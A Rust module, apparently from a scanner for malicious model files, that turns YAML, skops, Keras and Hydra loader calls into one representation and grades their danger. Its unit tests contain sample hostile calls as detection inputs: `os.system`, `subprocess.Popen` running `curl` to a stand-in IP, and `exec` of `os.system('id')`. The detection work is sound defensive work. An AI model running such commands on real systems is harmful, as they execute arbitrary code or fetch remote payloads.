//! What a file makes its loader call, with what: one judge for every format.
//!
//! A YAML tag, a skops node, a Keras object and a Hydra target each name a callable and hand it what stands beside it,
//! as REDUCE does in a pickle. A format describes what its loader would do as a [`Call`]; [`verdict`] runs that through
//! the abstract machine and the judge of [`crate::pickle`], so that a name, its arguments, folded look-ups, calls that
//! harmless functions make, constructors that act and commands that download are graded alike wherever they stand.

pub mod json;

use crate::pickle::knowledge::{Standing, standing};
use crate::{Scan, pickle};
use bartizan_core::{Confidence, Severity};

/// A callable by module and name, as Python 3 or 2 spells it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Name {
    /// The module, dotted.
    pub module: String,
    /// The name in it, dotted for methods; empty for the module itself.
    pub name: String,
}

impl Name {
    /// The callable at the dotted `path`; a bare word is one of the built-ins.
    pub fn of_path(path: &str) -> Self {
        let (module, name) = path.rsplit_once('.').unwrap_or(("builtins", path));
        Self { module: module.to_owned(), name: name.to_owned() }
    }
}

/// The dangerous callable that a dotted `path` reaches through modules that import it: `os.system` of
/// `package.module.os.system`. The first `skip` parts of the path are not taken for such a module.
///
/// Only callables graded at least `from` count.
pub fn reached_through(path: &str, skip: usize, from: Severity) -> Option<Name> {
    let (module, name) = path.rsplit_once('.')?;
    let starts = std::iter::once(0).chain(module.match_indices('.').map(|(at, _)| at.saturating_add(1)));
    starts.skip(skip).take(LONGEST_WAY).find_map(|start| {
        let module = module.get(start..)?;
        let known = standing(module, name);
        let is_gadget = matches!(known, Standing::Gadget { severity, .. } if severity >= from);
        is_gadget.then(|| Name { module: module.to_owned(), name: name.to_owned() })
    })
}

/// Parts of a dotted path looked at.
const LONGEST_WAY: usize = 16;

/// What a callable is given.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Argument {
    /// Something that cannot be read off the file, or that is data alone.
    Unknown,
    /// `None`.
    None,
    /// A boolean.
    Bool(bool),
    /// An integer.
    Int(i64),
    /// A string.
    Text(String),
    /// A list or tuple.
    Sequence(Vec<Argument>),
    /// A dictionary.
    Mapping(Vec<(Argument, Argument)>),
    /// A class, function or module by name.
    Name(Name),
    /// What another call gives. That call is judged on its own, not with the one around it.
    Result(Box<Call>),
}

/// How a loader uses a callable.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum How {
    /// Calls it.
    Called,
    /// Makes an object of the class without its constructor (`cls.__new__`); calls it when it is no class.
    Made,
    /// Only looks it up.
    Named,
}

/// One call that loading a file makes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Call {
    /// What is called.
    pub callee: Name,
    /// Positional arguments.
    pub arguments: Vec<Argument>,
    /// Keyword arguments.
    pub keywords: Vec<(String, Argument)>,
    /// State given to the result, as `__setstate__` or attributes.
    pub state: Option<Argument>,
    /// What the loader does with it.
    pub how: How,
}

impl Call {
    /// `path` used as `how`, with nothing given to it.
    pub fn of_path(path: &str, how: How) -> Self {
        Self { callee: Name::of_path(path), arguments: Vec::new(), keywords: Vec::new(), state: None, how }
    }
}

/// What is wrong with a call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    /// How bad.
    pub severity: Severity,
    /// How sure.
    pub confidence: Confidence,
    /// What loading does, as a verb phrase: `` calls `os.system("id")`, which runs its argument as a shell command ``.
    pub does: String,
    /// The call as pseudo-Python.
    pub shown: String,
}

/// Judges `call`, described at offset `place`; `None` when it is harmless.
///
/// Source and pickles among its arguments are reported to `scan` as findings of their own. Cost: bounded by the size of
/// the arguments, of which the judge looks at some dozens.
pub fn verdict(call: &Call, place: u64, scan: &mut Scan<'_>) -> Option<Verdict> {
    let findings = pickle::described(call, place, scan);
    // Of several that are as bad, the first is nearest to the call itself.
    let worst = findings.into_iter().rev().max_by_key(|finding| (finding.severity, finding.confidence))?;
    let phrase = ["Loading ", "The stream "].iter().find_map(|start| worst.message.strip_prefix(start));
    let does = phrase.unwrap_or(&worst.message).trim_end_matches('.').to_owned();
    Some(Verdict { severity: worst.severity, confidence: worst.confidence, does, shown: worst.evidence })
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn judged(call: &Call) -> Option<Verdict> {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        verdict(call, 7, &mut Scan::new(&limits, &clock))
    }

    fn call(path: &str, arguments: Vec<Argument>) -> Call {
        Call { arguments, ..Call::of_path(path, How::Called) }
    }

    fn text(text: &str) -> Argument {
        Argument::Text(text.to_owned())
    }

    fn grade(call: &Call) -> Option<Severity> {
        judged(call).map(|verdict| verdict.severity)
    }

    #[test]
    fn a_command_is_critical_however_harmless_and_says_what_it_runs() {
        let verdict = judged(&call("os.system", vec![text("true")])).unwrap();
        assert_eq!(verdict.severity, Severity::Critical);
        assert_eq!(verdict.does, "calls `os.system(\"true\")`, which runs its argument as a shell command");
        let keywords = Call {
            keywords: vec![("args".to_owned(), text("curl http://203.0.113.7/x"))],
            ..Call::of_path("subprocess.Popen", How::Called)
        };
        let verdict = judged(&keywords).unwrap();
        assert!(verdict.does.contains("args=\"curl") && verdict.does.contains("runs `curl`"), "{verdict:?}");
    }

    #[test]
    fn safe_callables_are_silent_and_unknown_ones_are_judged_by_their_arguments() {
        assert_eq!(grade(&call("collections.OrderedDict", vec![])), None);
        assert_eq!(grade(&call("my_package.Encoder", vec![Argument::Int(3)])), Some(Severity::Low));
        assert_eq!(
            grade(&call("my_package.fetch", vec![text("http://203.0.113.7/x")])),
            Some(Severity::High)
        );
        assert_eq!(
            grade(&call("my_package.run", vec![text("import os; os.system('id')")])),
            Some(Severity::High)
        );
    }

    #[test]
    fn a_chain_of_look_ups_is_judged_by_what_it_reaches() {
        let module = Argument::Name(Name { module: "os".to_owned(), name: String::new() });
        let chain = call("builtins.getattr", vec![module, text("system")]);
        assert_eq!(grade(&chain), Some(Severity::High));
        let module = Argument::Name(Name { module: "math".to_owned(), name: String::new() });
        assert!(grade(&call("builtins.getattr", vec![module, text("sqrt")])) < Some(Severity::Medium));
        let mapped = call("builtins.map", vec![Argument::Result(Box::new(chain)), text("id")]);
        assert!(grade(&mapped) >= Some(Severity::High), "{:?}", judged(&mapped));
    }

    #[test]
    fn a_trusted_constructor_is_judged_by_what_it_loads() {
        let path = "sentence_transformers.SentenceTransformer.SentenceTransformer";
        assert_eq!(grade(&call(path, vec![text("someone/else")])), Some(Severity::High));
        assert_eq!(grade(&Call { how: How::Made, ..call(path, vec![]) }), None);
    }

    #[test]
    fn a_name_alone_is_graded_as_a_reference() {
        assert_eq!(grade(&Call::of_path("os.system", How::Named)), Some(Severity::High));
        assert_eq!(grade(&Call::of_path("collections.OrderedDict", How::Named)), None);
    }

    #[test]
    fn source_among_the_arguments_is_looked_into() {
        let (limits, clock) = (Limits::default(), MonotonicClock::start());
        let mut scan = Scan::new(&limits, &clock);
        let found = verdict(&call("builtins.exec", vec![text("import os; os.system('id')")]), 7, &mut scan);
        assert_eq!(found.map(|verdict| verdict.severity), Some(Severity::Critical));
        assert!(scan.findings().iter().any(|finding| finding.rule.id == "model/python-dangerous-call"));
    }
}
